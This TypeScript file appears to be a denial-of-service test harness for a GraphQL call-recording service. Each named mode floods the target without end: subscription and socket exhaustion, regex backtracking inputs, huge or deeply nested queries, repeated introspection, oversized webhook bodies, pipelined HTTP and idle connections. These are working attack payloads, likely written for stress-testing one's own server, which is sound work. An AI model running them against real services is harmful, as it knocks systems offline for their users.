/** One hostile caller, with the scopes to read and no more: `node hostile-caller.ts KIND URL` does one kind of harm until it is ended. */
import { connect } from 'node:net';
import { WebSocket } from 'ws';

const [kind = '', url = ''] = process.argv.slice(2);
const graphql = `${url}/graphql`;
const headers = { authorization: 'Bearer reader', 'content-type': 'application/json' };
const pause = (ms: number) => new Promise((resolve) => setTimeout(resolve, ms));

/** Sends without end, some at once; a request refused with 429 is sent again a moment later, as an attacker would. */
const forEver = async (atOnce: number, send: (count: number) => Promise<{ status: number }>): Promise<void> => {
  let count = 0;
  const one = async () => {
    for (;;) {
      count += 1;
      const status = await send(count).then(
        (answer) => answer.status,
        () => 0,
      );
      if (status === 429 || status === 0) await pause(5);
    }
  };
  await Promise.all(Array.from({ length: atOnce }, one));
};

const post = async (body: string, to = graphql, more: Record<string, string> = headers) => {
  const response = await fetch(to, { method: 'POST', headers: more, body });
  await response.arrayBuffer();
  return response;
};
const ask = (query: string, variables: Record<string, unknown> = {}) => post(JSON.stringify({ query, variables }));

/** A socket of the reader's, once it is acknowledged. */
const openSocket = async (): Promise<WebSocket> => {
  const socket = new WebSocket(graphql.replace('http', 'ws'), 'graphql-transport-ws');
  socket.on('error', () => undefined);
  await new Promise((resolve) => socket.once('open', resolve));
  socket.send(JSON.stringify({ type: 'connection_init', payload: { Authorization: headers.authorization } }));
  await new Promise((resolve) => socket.once('message', resolve));
  return socket;
};
const subscribe = (socket: WebSocket, id: string, query: string, variables: Record<string, unknown> = {}) =>
  socket.send(JSON.stringify({ id, type: 'subscribe', payload: { query, variables } }));

const names = (count: number, from: number) => Array.from({ length: count }, (_, index) => `source-${from + index}`);
const everyCall = 'subscription ($sources: [String!]) { recordingChanged(filter: { sources: $sources }) { recording { externalId } } }';

const aliased = (times: number, field: string) => Array.from({ length: times }, (_, index) => `a${index}: ${field}`).join(' ');

/** By the name of the row. */
export const kinds: Readonly<Record<string, { what: string; run(): Promise<void> }>> = {
  subscriptions: {
    what: 'subscriptions with long filters',
    run: async () => {
      for (let opened = 0; ; opened += 1) {
        const socket = await openSocket();
        for (let index = 0; index < 100; index += 1)
          subscribe(socket, String(index), everyCall, { sources: [...names(99, index + opened * 100), 'desk'] });
        await pause(opened < 20 ? 20 : 60_000);
      }
    },
  },
  unread: {
    what: 'sockets that stop reading',
    run: async () => {
      for (;;) {
        const sockets = await Promise.all(Array.from({ length: 30 }, openSocket));
        for (const socket of sockets) {
          for (let index = 0; index < 20; index += 1)
            subscribe(
              socket,
              String(index),
              'subscription { agentChanged(after: "0") { agent { id name devices { phone } activeCall { id legs { endpoint } } } } }',
            );
          socket.pause();
        }
        await pause(1500);
        for (const socket of sockets) socket.terminate();
      }
    },
  },
  numbers: {
    what: 'numbers that make patterns backtrack',
    run: () =>
      forEver(32, () =>
        ask('query ($number: String) { calls(filter: { number: $number }) { nodes { id } } }', { number: `${'4'.repeat(20_000)}x` }),
      ),
  },
  suggestions: {
    what: 'suggestions without end',
    run: () => forEver(16, (count) => ask(`{ agnts(a${count}: "${'Did you mean '.repeat(18_000)}") { id } }`)),
  },
  lookups: {
    what: 'look-ups of unknown agents',
    run: () =>
      forEver(64, (count) =>
        ask('query ($value: String!) { agent(ref: { key: { source: "hq", identifier: ID, value: $value } }) { id } }', {
          value: `no-${count}`,
        }),
      ),
  },
  counts: {
    what: 'counts of everything',
    run: () =>
      forEver(16, () =>
        ask(
          `{ ${Array.from({ length: 30 }, (_, index) => `a${index}: recordings(filter: { kinds: [AUDIO] }) { totalCount }`).join(' ')} }`,
        ),
      ),
  },
  documents: {
    what: 'large documents, each another',
    run: () => forEver(16, (count) => ask(`# ${count} ${'x'.repeat(250_000)}\n{ sources { name } }`)),
  },
  pages: {
    what: 'the largest pages',
    run: () =>
      forEver(32, (count) =>
        ask(
          `{ agents(first: ${100 - (count % 50)}) { nodes { id name activeCall { id recordings { id } } recordings(first: 5) { nodes { id } } } } }`,
        ),
      ),
  },
  introspection: {
    what: 'the schema, twenty-nine times in one answer',
    run: () =>
      forEver(16, (count) => ask(`{ ${aliased(29, '__schema { types { fields { name type { name } args { name } } } }')} } # ${count}`)),
  },
  failures: {
    what: 'a thousand errors, each behind many lines',
    run: () =>
      forEver(16, (count) =>
        ask(`# ${count}${'\n'.repeat(1990)}query ($r: [_Any!]!) { _entities(representations: $r) { __typename } }`, {
          r: Array(1000).fill({ __typename: 'Nothing' }),
        }),
      ),
  },
  lists: {
    what: 'many lists of each agent',
    run: () =>
      forEver(16, (count) =>
        ask(`{ agents(first: 100) { nodes { ${aliased(24, 'recordings(first: 1) { nodes { id } }')} } } } # ${count}`),
      ),
  },
  comparisons: {
    what: 'the same field hundreds of times',
    run: () => forEver(16, (count) => ask(`{ agents { nodes { ${'calls(first: 1) { totalCount } '.repeat(300)} } } } # ${count}`)),
  },
  depth: {
    what: 'deep variables',
    run: () => forEver(32, () => post(`{"query":"{ sources { name } }","variables":{"a":${'['.repeat(100_000)}${']'.repeat(100_000)}}}`)),
  },
  hooks: {
    what: 'bodies of strangers at a hook',
    run: () => forEver(400, () => post('x'.repeat(900_000), `${url}/hooks/desk?action=cdr`, { authorization: 'Basic d3Jvbmc6d3Jvbmc=' })),
  },
  links: { what: 'links that nobody gave out', run: () => forEver(64, (count) => fetch(`${url}/media/${'A'.repeat(200)}${count}`)) },
  pipelined: {
    what: 'thousands of requests in one packet',
    run: async () => {
      const { port, hostname } = new URL(url);
      const body = '{"query":"{ sources { name } }"}';
      const request = `POST /graphql HTTP/1.1\r\nhost: x\r\nauthorization: ${headers.authorization}\r\ncontent-type: application/json\r\ncontent-length: ${body.length}\r\n\r\n${body}`;
      for (;;) {
        for (let index = 0; index < 20; index += 1) {
          connect(Number(port), hostname)
            .on('error', () => undefined)
            .resume()
            .write(request.repeat(2000));
        }
        await pause(1000);
      }
    },
  },
  strangers: {
    what: 'strangers who say nothing',
    run: async () => {
      for (;;) {
        const { port, hostname } = new URL(url);
        for (let index = 0; index < 600; index += 1) connect(Number(port), hostname).on('error', () => undefined);
        await pause(2000);
      }
    },
  },
};

if (import.meta.main) {
  // Ends with whoever started it, however that ends.
  process.stdin.on('end', () => process.exit()).resume();
  process.stdout.write('harming\n');
  await kinds[kind]!.run();
}
